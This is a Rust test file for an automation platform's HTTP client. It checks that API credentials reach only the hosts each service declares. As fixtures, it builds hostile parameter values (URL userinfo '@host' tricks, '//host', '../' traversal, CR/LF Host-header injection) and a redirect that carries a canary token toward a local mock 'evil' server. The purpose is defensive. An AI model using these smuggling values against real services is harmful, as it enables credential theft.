//! A credential goes only to the hosts it was given for (ARCHITECTURE.md "Trust rules"; issue 10
//! item 2).
//!
//! - The shared client, bound to a connection's credential, refuses a request that carries the
//!   secret (header, query or body) to any other host, before connecting, and after a redirect
//!   the secret never reaches another host.
//! - Table-driven over the catalog: for every credentialed HTTP service, every polled action and
//!   every reaction is run with hostile values in every parameter (what an area file or an
//!   ingredient could hold: URLs, `@host` tricks, `#`, `?`, `..`, CR/LF). Through a client bound to
//!   *no* host at all, each request carrying the canary token is refused before any I/O, and the
//!   refusal names the host it was aimed at: it must be one the service's manifest declares. A
//!   local "evil" server, named by the hostile values, receives nothing.

mod kit;

use std::sync::Arc;

use area_core::catalog::{ActionKind, AuthKind, Catalog, ParamSpec, ParamType, ServiceManifest};
use area_core::connector::{ConnectorError, Credential, HttpRequestSpec, Params, PollContext};
use area_core::net::{AllowedHosts, CredentialBinding, HttpClient, NetError, RequestOptions};
use serde_json::{json, Value};
use wiremock::matchers::any;
use wiremock::{Mock, MockServer, ResponseTemplate};

const CANARY: &str = "CANARY-token-7f3a9c2e51";

fn canary() -> Credential {
    Credential::ApiKey(CANARY.into())
}

fn bound(client: &HttpClient, hosts: AllowedHosts) -> HttpClient {
    client.with_credential(Arc::new(CredentialBinding::new("test", canary().secret(), hosts)))
}

fn private_opts() -> RequestOptions {
    RequestOptions { allow_private_network: true, ..Default::default() }
}

async fn evil_server() -> MockServer {
    let evil = MockServer::start().await;
    Mock::given(any()).respond_with(ResponseTemplate::new(200).set_body_string("{}")).mount(&evil).await;
    evil
}

async fn requests_carrying_canary(server: &MockServer) -> usize {
    let requests = server.received_requests().await.unwrap_or_default();
    requests
        .iter()
        .filter(|r| {
            r.url.as_str().contains(CANARY)
                || r.headers.values().any(|v| v.as_bytes().windows(CANARY.len()).any(|w| w == CANARY.as_bytes()))
                || r.body.windows(CANARY.len()).any(|w| w == CANARY.as_bytes())
        })
        .count()
}

fn refused_host(err: &NetError) -> Option<&str> {
    match err {
        NetError::CredentialHost { host, .. } => Some(host),
        _ => None,
    }
}

// ---------------------------------------------------------------------------------------------
// The client's check

#[tokio::test]
async fn a_request_carrying_the_credential_to_another_host_is_refused_before_connecting() {
    let evil = evil_server().await;
    let good = MockServer::start().await;
    let client = kit::client();
    let http = bound(&client, AllowedHosts::default().with_origin(&url::Url::parse(&good.uri()).unwrap()));
    let placements = [
        HttpRequestSpec {
            headers: vec![("Authorization".into(), format!("Bearer {CANARY}"))],
            ..HttpRequestSpec::get(format!("{}/x", evil.uri()))
        },
        HttpRequestSpec::get(format!("{}/x?api_key={CANARY}", evil.uri())),
        HttpRequestSpec {
            method: "POST".into(),
            body: Some(format!("{{\"token\":\"{CANARY}\"}}").into_bytes()),
            ..HttpRequestSpec::get(format!("{}/x", evil.uri()))
        },
    ];
    for spec in &placements {
        let err = http.send(spec, &private_opts()).await.unwrap_err();
        let msg = err.to_string();
        assert!(matches!(err, NetError::CredentialHost { .. }), "{msg}");
        assert!(msg.contains("127.0.0.1") && msg.contains("may only go to"), "{msg}");
        assert!(!msg.contains(CANARY), "{msg}");
        assert_eq!(ConnectorError::Net(err).class(), area_core::connector::ErrorClass::Permanent);
    }
    assert_eq!(evil.received_requests().await.unwrap().len(), 0, "the evil server was contacted");

    // A request that does not carry the secret is not concerned (a webhook URL with its own token).
    let plain = HttpRequestSpec::get(format!("{}/hook", evil.uri()));
    assert_eq!(http.send(&plain, &private_opts()).await.unwrap().status, 200);
}

#[tokio::test]
async fn a_redirect_never_takes_the_credential_to_another_host() {
    let evil = evil_server().await;
    let good = MockServer::start().await;
    Mock::given(wiremock::matchers::path("/hop"))
        .respond_with(ResponseTemplate::new(307).insert_header("Location", format!("{}/stolen", evil.uri())))
        .mount(&good)
        .await;
    Mock::given(wiremock::matchers::path("/hop-query"))
        .respond_with(
            ResponseTemplate::new(302).insert_header("Location", format!("{}/stolen?key={CANARY}", evil.uri())),
        )
        .mount(&good)
        .await;
    let client = kit::client();
    let http = bound(&client, AllowedHosts::default().with_origin(&url::Url::parse(&good.uri()).unwrap()));

    // A header credential is dropped at the cross-origin hop (the body too would be refused).
    let spec = HttpRequestSpec {
        headers: vec![("X-Api-Key".into(), CANARY.into())],
        ..HttpRequestSpec::get(format!("{}/hop", good.uri()))
    };
    http.send(&spec, &private_opts()).await.expect("the redirect is followed without the key");
    // A Location that itself carries the secret to another host is refused.
    let err = http.send(&HttpRequestSpec::get(format!("{}/hop-query", good.uri())), &private_opts()).await;
    assert!(matches!(err, Err(NetError::CredentialHost { .. })), "{err:?}");
    assert_eq!(requests_carrying_canary(&evil).await, 0);
}

// ---------------------------------------------------------------------------------------------
// Every credentialed service, every action and reaction

/// Well-formed values, so that a connector gets as far as building its request: a few by
/// parameter id, the rest by type (the n-th candidate of each parameter forms baseline n).
fn plausible_values(spec: &ParamSpec) -> Vec<Value> {
    match spec.id {
        "from" | "to" if matches!(spec.kind, ParamType::String) && spec.label.contains("latitude") => {
            return vec![json!("48.8566,2.3522")]
        }
        "date" => return vec![json!("2026-12-24")],
        "currency" => return vec![json!("EUR")],
        "board_id" => return vec![json!("549755885175")],
        id if id.ends_with("url") && matches!(spec.kind, ParamType::String) => {
            return vec![json!("https://example.com/a.jpg")]
        }
        "locale" => return vec![json!("fr-FR")],
        "region" => return vec![json!("europe")],
        "platform" => return vec![json!("euw1")],
        "riot_id" => return vec![json!("Faker#KR1")],
        "puuid" => return vec![Value::Null],
        _ => {}
    }
    match &spec.kind {
        ParamType::Integer { min, max } => vec![json!(min.or(*max).unwrap_or(1))],
        ParamType::Number => vec![json!(1.5)],
        ParamType::Boolean => vec![json!(false)],
        ParamType::Enum { choices } => choices.iter().map(|c| json!(c)).collect(),
        ParamType::DateTime => vec![json!("2026-12-01T10:00:00Z")],
        ParamType::StringMap => vec![json!({})],
        ParamType::Url => vec![json!("https://example.com/a.jpg")],
        ParamType::String => vec![
            json!("owner/name"),
            json!("123456789012345678"),
            json!("UCuAXFkgsw1L7xaCfnd5JJOw"),
            json!("spotify:playlist:37i9dQZF1DXcBWIGoYBM5M"),
            json!("STIF:StopArea:SP:1234:"),
            json!("ada@example.com"),
        ],
    }
}

/// Hostile values for a parameter: what an area file or a rendered ingredient could hold.
fn hostile_values(spec: &ParamSpec, evil: &str) -> Vec<Value> {
    let host = evil.trim_start_matches("http://");
    match &spec.kind {
        ParamType::StringMap => vec![json!({"Host": host, "X-Forwarded-Host": host})],
        ParamType::Url => vec![json!(format!("{evil}/a")), json!(format!("https://example.com@{host}/a"))],
        ParamType::String => vec![
            json!(format!("owner/name@{host}/#?x=..%2F")),
            json!(format!("{evil}/x")),
            json!(format!("x/../../@{host}?a=\r\nHost: {host}")),
            json!(format!("//{host}/x")),
        ],
        _ => Vec::new(),
    }
}

/// Baselines of well-formed values, then each baseline with one parameter made hostile.
fn param_variants(specs: &[ParamSpec], evil: &str) -> Vec<Params> {
    let width = specs.iter().map(|s| plausible_values(s).len()).max().unwrap_or(1);
    let mut out = Vec::new();
    for n in 0..width {
        let base: Params = specs
            .iter()
            .filter_map(|s| {
                let values = plausible_values(s);
                let v = values.get(n).or(values.first())?.clone();
                (!v.is_null()).then(|| (s.id.to_string(), v))
            })
            .collect();
        out.push(base.clone());
        for spec in specs {
            for value in hostile_values(spec, evil) {
                let mut p = base.clone();
                p.insert(spec.id.to_string(), value);
                out.push(p);
            }
        }
    }
    out
}

fn credentialed_http_services(catalog: &Catalog) -> Vec<&ServiceManifest> {
    catalog
        .manifests()
        .filter(|m| matches!(m.auth, AuthKind::ApiKey | AuthKind::OAuth2 | AuthKind::ClientKey))
        .collect()
}

/// The host a refusal names must be one the manifest declares.
fn assert_declared(manifest: &ServiceManifest, what: &str, host: &str) {
    let declared = AllowedHosts::names(manifest.credential_hosts.iter().copied());
    let url = url::Url::parse(&format!("https://{host}/")).unwrap();
    assert!(
        declared.allows_url(&url),
        "{}.{what} aimed its credential at {host}, not at its declared hosts {:?}",
        manifest.id,
        manifest.credential_hosts
    );
}

#[test]
fn every_credentialed_service_declares_its_credential_hosts() {
    let catalog = area_core::services::catalog(&area_core::settings::Settings::from_env());
    for m in catalog.manifests() {
        match m.auth {
            AuthKind::ApiKey | AuthKind::OAuth2 | AuthKind::ClientKey => {
                assert!(!m.credential_hosts.is_empty(), "{} has a credential but no credential_hosts", m.id);
                for h in &m.credential_hosts {
                    assert!(h.contains('.') && !h.contains(['/', ':', '@']), "{}: {h:?} is not a host name", m.id);
                }
            }
            AuthKind::MailAccount | AuthKind::None => {
                assert!(m.credential_hosts.is_empty(), "{}: its hosts come from the connection", m.id)
            }
        }
    }
    // The services the issue names, so that a renamed one is not silently skipped.
    let ids: Vec<&str> = credentialed_http_services(&catalog).iter().map(|m| m.id).collect();
    for id in [
        "github",
        "discord",
        "gmail",
        "google_drive",
        "youtube",
        "spotify",
        "teams",
        "twitter",
        "instagram",
        "pinterest",
        "postman",
        "ratp",
        "riot",
        "revolut",
        "blablacar",
        "nasa",
    ] {
        assert!(ids.contains(&id), "{id} is not a credentialed HTTP service: {ids:?}");
    }
}

#[tokio::test]
async fn no_parameter_or_ingredient_redirects_a_services_token() {
    let evil = evil_server().await;
    let catalog = area_core::services::catalog(&area_core::settings::Settings::from_env());
    let client = kit::client();
    // Bound to no host: any request carrying the canary is refused before I/O and says where
    // it was going.
    let http = bound(&client, AllowedHosts::default());
    let credential = canary();
    let mut checked = Vec::new();
    let mut unreached = Vec::new();
    for manifest in credentialed_http_services(&catalog) {
        let service = catalog.service(manifest.id).unwrap();
        for action in &manifest.actions {
            let Some(ActionKind::Polled(code)) = service.actions.get(action.id) else { continue };
            let mut reached = false;
            for p in param_variants(&action.params, &evil.uri()) {
                let ctx = PollContext { params: &p, cursor: None, credential: Some(&credential) };
                let Ok(spec) = code.request(&ctx) else { continue };
                match http.send(&spec, &private_opts()).await {
                    Err(ref e) if refused_host(e).is_some() => {
                        assert_declared(manifest, action.id, refused_host(e).unwrap());
                        reached = true;
                    }
                    other => {
                        panic!("{}.{}: a request with the token was not refused: {other:?}", manifest.id, action.id)
                    }
                }
            }
            if reached {
                checked.push(format!("{}.{}", manifest.id, action.id));
            } else {
                unreached.push(format!("{}.{}", manifest.id, action.id));
            }
        }
        for reaction in &manifest.reactions {
            let code = &service.reactions[reaction.id];
            let mut reached = false;
            for p in param_variants(&reaction.params, &evil.uri()) {
                let ctx = kit::reaction_ctx(&http, "area-1:evt-1:0", Some(&credential));
                match code.run(&ctx, &p).await {
                    Err(ConnectorError::Net(ref e)) if refused_host(e).is_some() => {
                        assert_declared(manifest, reaction.id, refused_host(e).unwrap());
                        reached = true;
                    }
                    // Parameters the connector rejects never reach the network.
                    Err(ConnectorError::BadParams { .. }) => {}
                    // A reaction that sends no credential (a webhook URL carrying its own
                    // secret) goes where its URL says, without the token: checked below.
                    Ok(_) | Err(_) => {}
                }
            }
            if reached {
                checked.push(format!("{}.{}", manifest.id, reaction.id));
            }
        }
    }
    assert_eq!(requests_carrying_canary(&evil).await, 0, "the evil server received the token");
    assert!(unreached.is_empty(), "no hostile parameter set produced a request for {unreached:?}");
    // Every credentialed reaction of the services was exercised.
    for must in [
        "github.create_issue",
        "discord.send_message",
        "gmail.send_mail",
        "google_drive.create_text_file",
        "youtube.add_to_playlist",
        "spotify.add_to_playlist",
        "teams.post_chat_message",
        "twitter.post",
        "postman.run_monitor",
        "instagram.publish_photo",
        "pinterest.create_pin",
    ] {
        assert!(checked.iter().any(|c| c == must), "{must} was not exercised; exercised: {checked:?}");
    }
    eprintln!("checked {} actions and reactions: {checked:?}", checked.len());
}
